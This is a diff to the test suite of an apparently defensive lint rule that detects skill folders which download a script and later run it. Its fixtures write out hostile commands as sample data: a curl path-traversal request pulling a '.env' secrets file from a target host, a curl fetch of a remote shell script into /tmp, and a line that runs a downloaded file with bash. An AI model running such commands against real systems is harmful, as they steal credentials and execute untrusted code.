@@ -127,6 +127,15 @@ tester.run(rule, {
   ],
   invalid: [
     {
+      name: 'a listing of paths to probe names places: a name alike of a downloaded file there runs nothing; the exact path of a download still does',
+      code: '---\nname: s\ndescription: Checks a web app.\n---\nSee the references.\n',
+      folder: {
+        'references/download.md': '# Path traversal\n\n```\ncurl "https://target.example-site.net/download?file=../../.env" -o .env\ncurl -fsSL https://dl.example-files.net/p.sh -o /tmp/p.sh\n```\n',
+        'references/paths.md': '# Endpoints to check\n\n```\n/swagger-ui.html           /swagger-ui/\n/.env                      /metrics (Prometheus)\n```\n\n```\n/tmp/p.sh\n/tmp/q.sh\n```\n',
+      },
+      errors: [{ file: 'skills/s/references/paths.md', line: 9, message: /downloads https:\/\/dl\.example-files\.net\/p\.sh .* → runs \/tmp\/p\.sh/ }],
+    },
+    {
       name: 'an array assignment after a download runs nothing (its elements are values); running the file does',
       code: '---\nname: s\ndescription: Sets up a tool.\n---\nRun `scripts/setup.sh`.\n',
       folder: { 'scripts/setup.sh': '#!/bin/bash\nP="$HOME/Downloads/t.tox"\nif curl -fSL -o "$P" "https://dl.example-files.net/t.tox"; then echo ok; else\n  manual_steps+=("Download t.tox from https://dl.example-files.net/t.tox to ${P}")\nfi\nsteps=(bash "$P")\nbash "$P"\n' },
